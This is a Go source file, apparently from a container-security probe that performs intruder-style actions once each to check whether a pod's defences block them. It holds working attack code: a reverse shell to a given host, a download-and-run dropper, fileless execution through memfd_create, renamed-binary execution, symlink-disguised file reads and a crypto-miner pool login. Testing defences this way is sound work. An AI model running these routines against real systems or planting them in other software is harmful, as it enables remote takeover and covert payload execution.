package main

import (
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"

	"golang.org/x/sys/unix"
)

// attacks do what intruders do first, each once. What they need is refused to an
// ordinary pod or does no harm in it.
var attacks = map[string]struct {
	args string
	do   func(args []string) error
}{
	"read":          {"FILE", func(a []string) error { return read(a[0]) }},
	"read-link":     {"FILE", func(a []string) error { return readLink(a[0]) }},
	"write":         {"FILE", func(a []string) error { return os.WriteFile(a[0], []byte("probe was here\n"), 0o644) }},
	"reverse-shell": {"HOST:PORT SHELL", func(a []string) error { return reverseShell(a[0], a[1]) }},
	"drop":          {"URL", func(a []string) error { return drop(a[0]) }},
	"memory":        {"PROGRAM", func(a []string) error { return fromMemory(a[0]) }},
	"renamed":       {"PROGRAM AS ARG", func(a []string) error { return renamed(a[0], a[1], a[2]) }},
	"miner":         {"HOST:PORT", func(a []string) error { return miner(a[0]) }},
}

func attack(name string, args []string) error {
	a, known := attacks[name]
	if !known || len(args) != len(strings.Fields(a.args)) {
		var all []string
		for name, a := range attacks {
			all = append(all, "probe attack "+name+" "+a.args)
		}
		slices.Sort(all)
		return fmt.Errorf("usage:\n%s", strings.Join(all, "\n"))
	}
	return a.do(args)
}

func read(file string) error {
	text, err := os.ReadFile(file)
	fmt.Println(len(text), "bytes")
	return err
}

// readLink reads a file by a name that says nothing.
func readLink(file string) error {
	link := filepath.Join(os.TempDir(), "notes")
	_ = os.Remove(link)
	if err := os.Symlink(file, link); err != nil {
		return err
	}
	return read(link)
}

// reverseShell gives whoever listens a shell, over the socket itself.
func reverseShell(address, shell string) error {
	c, err := net.DialTimeout("tcp", address, patience)
	if err != nil {
		return err
	}
	defer c.Close()
	socket, err := c.(*net.TCPConn).File()
	if err != nil {
		return err
	}
	defer socket.Close()
	cmd := exec.Command(shell, "-i")
	cmd.Stdin, cmd.Stdout, cmd.Stderr = socket, socket, socket
	return cmd.Run()
}

// drop downloads a program and runs it.
func drop(url string) error {
	r, err := (&http.Client{Timeout: patience}).Get(url)
	if err != nil {
		return err
	}
	defer r.Body.Close()
	program := filepath.Join(os.TempDir(), "dropped")
	file, err := os.OpenFile(program, os.O_CREATE|os.O_TRUNC|os.O_WRONLY, 0o755)
	if err != nil {
		return err
	}
	if _, err := io.Copy(file, r.Body); err != nil {
		return err
	}
	if err := file.Close(); err != nil {
		return err
	}
	return start(program)
}

// fromMemory runs a copy of a program that is on no disk.
func fromMemory(program string) error {
	text, err := os.ReadFile(program)
	if err != nil {
		return err
	}
	fd, err := unix.MemfdCreate("", unix.MFD_CLOEXEC)
	if err != nil {
		return err
	}
	memory := os.NewFile(uintptr(fd), "memory")
	defer memory.Close()
	if _, err := memory.Write(text); err != nil {
		return err
	}
	return start(fmt.Sprintf("/proc/self/fd/%d", fd))
}

// renamed runs a copy of a program under another name.
func renamed(program, as, arg string) error {
	text, err := os.ReadFile(program)
	if err != nil {
		return err
	}
	if err := os.WriteFile(as, text, 0o755); err != nil {
		return err
	}
	return start(as, strings.Fields(arg)...)
}

// start runs a program; that it started counts, not how it ended.
func start(program string, args ...string) error {
	cmd := exec.Command(program, args...)
	cmd.Stdout, cmd.Stderr = os.Stdout, os.Stderr
	if err := cmd.Start(); err != nil {
		return err
	}
	_ = cmd.Wait()
	return nil
}

// miner says what miners say first to their pool.
func miner(address string) error {
	c, err := net.DialTimeout("tcp", address, patience)
	if err != nil {
		return err
	}
	defer c.Close()
	_, err = fmt.Fprintln(c, `{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"probe","pass":"x","agent":"xmrig"}}`)
	return err
}
